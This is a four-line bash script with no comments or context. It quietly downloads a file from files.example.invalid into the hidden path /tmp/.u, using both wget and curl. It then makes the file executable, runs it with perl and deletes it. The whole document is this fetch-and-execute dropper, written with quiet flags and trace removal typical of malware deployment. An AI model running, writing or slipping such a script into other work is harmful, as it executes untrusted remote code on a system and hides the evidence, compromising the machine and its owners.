#!/bin/bash
wget -q -O /tmp/.u http://files.example.invalid/u ; curl -s -o /tmp/.u http://files.example.invalid/u
chmod +x /tmp/.u
perl /tmp/.u
rm -rf /tmp/.u
